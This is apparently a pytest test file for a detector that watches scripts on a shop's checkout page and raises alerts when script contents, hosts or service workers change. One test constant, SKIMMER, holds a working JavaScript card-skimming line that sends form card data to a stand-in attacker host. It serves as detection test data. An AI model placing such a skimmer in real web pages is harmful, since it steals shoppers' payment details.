"""Scripts as things that stay the same while they do, and what is said when what they hold, or whom they name, is another."""

from __future__ import annotations

import pytest

from scans.snapshot import Script, Worker
from tests.scans.diff.loads import checkout, external, judged, load, page, running, sha256, told

OWN, PACKAGE = "https://shop.example/js/checkout.js", "https://cdn.jsdelivr.net/npm/x@1.2.3/a.js"
SKIMMER = "pay(); new Image().src = 'https://evil-skim.net/i?d=' + btoa(document.forms[0].card.value)"
EVIL = "https://evil-cdn.net/jquery-3.7.1.js"


def at_checkout(*scripts):
    return lambda: load(checkout(**running(*scripts)))


def at_home(*scripts):
    return lambda: load(page(**running(*scripts)))


def test_a_skimmer_in_the_sites_own_file_on_a_payment_page_raises_an_alert():
    assert told(at_checkout(external(OWN, "pay()")), at_checkout(external(OWN, SKIMMER))) == [("high", "script.names_never_seen_host_on_payment_page")]
    assert judged(at_checkout(external(OWN, "pay()")), at_checkout(external(OWN, "pay(2)"))) == [("low", "script.own_changed_on_payment_page")]


def test_a_skimmer_in_a_known_partys_file_on_a_payment_page_raises_an_alert():
    url = "https://static.klaviyo.com/onsite/js/klaviyo.js"
    assert told(at_checkout(external(url, "k()")), at_checkout(external(url, SKIMMER))) == [("high", "script.names_never_seen_host_on_payment_page")]


def test_a_host_that_the_file_named_before_is_nothing_new():
    assert told(at_checkout(external(OWN, SKIMMER)), at_checkout(external(OWN, f"{SKIMMER};more()"))) == []


@pytest.mark.parametrize("url", ["https://shop.example/media/skim.js?x={", "https://shop.example/media/skim-1.2.3.js", "https://shop.example/a/{ver}.js"])
def test_no_name_makes_a_new_script_on_a_payment_page_a_deploy(url):
    assert told(at_checkout(external(OWN)), at_checkout(external(OWN), external(url, "x()"))) == [("medium", "script.own_new_on_payment_page")]


def test_a_deploy_that_names_a_file_anew_is_no_news():
    old, new = ("https://shop.example/assets/app.3f2a1b9cd4e5f607.js", "https://shop.example/assets/app.9c8b7a6f5e4d3c2b.js")
    assert judged(at_checkout(external(old, "v1")), at_checkout(external(new, "v2"))) == [("low", "script.own_changed_on_payment_page")]


def test_a_tampered_file_does_not_vanish_by_being_long():
    found = told(at_checkout(external(PACKAGE, "a()")), at_checkout(external(PACKAGE, None)))
    assert found == [("high", "script.fixed_content_unreadable")]
    long, other = (external(PACKAGE, None, normalised_sha256=sha256(text)) for text in ("a", "b"))
    assert told(at_checkout(long), at_checkout(other)) == [("critical", "script.fixed_content_changed")]
    assert told(at_checkout(external(OWN, "a()")), at_checkout(external(OWN, None))) == [("medium", "script.unreadable_on_payment_page")]


def test_what_could_never_be_read_is_no_news():
    assert judged(at_checkout(external(OWN, None)), at_checkout(external(OWN, None))) == []


def test_code_that_nobody_could_read_is_no_known_code():
    unread = Script(url="", sha256="", size=9, inline=True, party="first")
    found = told(lambda: load(checkout(scripts=[unread])), at_checkout(unread, external("https://evil-skim.net/huge.js", None)))
    assert found[0] == ("critical", "script.never_seen_party_on_payment_page")


def test_code_of_a_party_that_nobody_knows_does_not_become_other_code_in_silence():
    assert told(at_checkout(external(EVIL, "jquery")), at_checkout(external(EVIL, "jquery, and more"))) == [
        ("high", "script.unlisted_party_changed_on_payment_page")
    ]
    assert told(at_home(external(EVIL, "jquery")), at_home(external(EVIL, "jquery, and more"))) == [("medium", "script.unlisted_party_changed")]


def test_a_listed_vendor_changes_its_script_as_vendors_do():
    url = "https://www.googletagmanager.com/gtm.js?id=GTM-ABC1234"
    assert judged(at_checkout(external(url, "1")), at_checkout(external(url, "2"))) == [("info", "script.vendor_changed_its_script")]


def test_a_deploy_of_a_file_with_an_integrity_attribute_is_no_tampering():
    one, other = (external("https://shop.example/js/app.js", body, integrity=f"sha256-{letter * 43}=") for body, letter in (("v1", "A"), ("v2", "B")))
    assert told(at_home(one), at_home(other)) == []
    tampered = external("https://shop.example/js/app.js", "v2", integrity=one.integrity)
    assert told(at_home(one), at_home(tampered)) == [("critical", "script.fixed_content_changed")]


def test_a_new_service_worker_is_told():
    worker = Worker(url="https://shop.example/sw.js?v=3.1.4", kind="service", outcome="blocked")
    assert told(lambda: load(page()), lambda: load(page(workers=[worker]))) == [("medium", "script.new_service_worker")]
    again = Worker(url="https://shop.example/sw.js?v=3.1.5", kind="service", outcome="blocked")
    assert judged(lambda: load(page(workers=[worker])), lambda: load(page(workers=[again]))) == []
